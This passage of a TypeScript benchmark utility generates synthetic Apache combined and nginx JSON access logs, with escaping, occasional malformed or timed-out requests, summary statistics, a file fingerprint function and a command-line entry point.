      if (i === lines - 1) lastTime = new Date(second * 1000).toISOString()
      const client = model.client()
      clients.add(client.index)
      if (model.ipv6Clients.has(client.index)) ipv6Lines++
      let request = model.request()
      let status = model.status(request)
      let requestBytes: string | Uint8Array = `${request.method} ${request.target} ${request.protocol}`
      const special = random.next()
      if (special < 0.0005) {
        // the client opened a connection and sent nothing before the timeout
        status = 408
        requestBytes = '-'
        request = { ...request, method: '', kind: 'page' }
        dashRequests++
      } else if (special < 0.0006) {
        status = 400
        requestBytes = model.junk()
        request = { ...request, method: '', kind: 'scanner' }
        junkRequests++
      } else if (status === 408) {
        status = 400
      }
      const size = requestBytes === '-' ? 0 : model.size(request, status)
      const referer = requestBytes === '-' ? '-' : model.referer(request)
      const agent =
        requestBytes === '-'
          ? { text: '-', quote: false, nonAscii: false }
          : model.agent(client.index, request)
      if (agent.quote) uaWithQuote++
      if (agent.nonAscii) uaNonAscii++
      const escapedAgent =
        agent.text === '-' ? '' : variant === 'jsonl' ? nginxJsonEscape(agent.text) : apacheEscape(agent.text)
      if (agent.text !== '-') {
        uaChars += agent.text.length
        uaCharsEscaped += escapedAgent.length
      }
      statuses[status] = (statuses[status] ?? 0) + 1
      sizeSum += size
      const user = random.next() < 0.01 ? pickOne(random, ['alice', 'bob', 'carol', 'deploy', 'admin']) : '-'
      let line: string
      if (variant === 'jsonl') {
        const time = (model.duration(request, status) / 1e6).toFixed(3)
        line =
          `{"time_local":"${cachedTime}","remote_addr":"${client.address}","remote_user":"${user === '-' ? '' : user}",` +
          `"request":"${requestBytes === '-' ? '' : nginxJsonEscape(requestBytes)}","status":${status},` +
          `"body_bytes_sent":${size},"request_time":${time},` +
          `"http_referer":"${referer === '-' ? '' : nginxJsonEscape(referer)}",` +
          `"http_user_agent":"${escapedAgent}"}\n`
      } else {
        line =
          `${client.address} - ${user} [${cachedTime}] "${requestBytes === '-' ? '-' : apacheEscape(requestBytes)}" ` +
          `${status} ${size === 0 ? '-' : size} "${apacheEscape(referer)}" "${agent.text === '-' ? '-' : escapedAgent}"`
        line += variant === 'combined-D' ? ` ${model.duration(request, status)}\n` : '\n'
      }
      pending.push(line)
      pendingChars += line.length
      if (pendingChars >= 1 << 20) flush()
    }
    flush()
  } finally {
    closeSync(fd)
  }
  return {
    generatorVersion: GENERATOR_VERSION,
    variant,
    seed,
    lines,
    bytes,
    sizeSum,
    statuses,
    clients: clients.size,
    ipv6Lines,
    uaWithQuote,
    uaNonAscii,
    uaChars,
    uaCharsEscaped,
    dashRequests,
    junkRequests,
    firstTime,
    lastTime,
  }
}

/** A short digest of a file's first MiB, to tell runs on different inputs apart in results. */
export function fingerprint(path: string): string {
  const data = readFileSync(path).subarray(0, 1 << 20)
  return createHash('sha256').update(data).digest('hex').slice(0, 16)
}

function main(): void {
  const { values } = parseArgs({
    options: {
      lines: { type: 'string', default: '500000' },
      seed: { type: 'string', default: '1' },
      variant: { type: 'string', default: 'combined' },
      out: { type: 'string' },
    },
  })
  const variant = values.variant as LogVariant
  if (!LOG_VARIANTS.includes(variant)) throw new Error(`--variant must be one of ${LOG_VARIANTS.join(', ')}`)
  const options = { lines: Number(values.lines), seed: Number(values.seed), variant }
  if (values.out !== undefined) {
    const meta = writeLog(values.out, options)
    process.stdout.write(`${JSON.stringify({ path: values.out, ...meta })}\n`)
  } else {
    const log = generateLog(options)
    process.stdout.write(`${JSON.stringify({ path: log.path, ...log.meta })}\n`)
  }
}

// run as a program, not when imported (nor when bundled into a benchmark, where import.meta.url is the bundle's)
const self = fileURLToPath(import.meta.url)
if (self.endsWith('gen-combined-log.ts') && self === process.argv[1]) main()
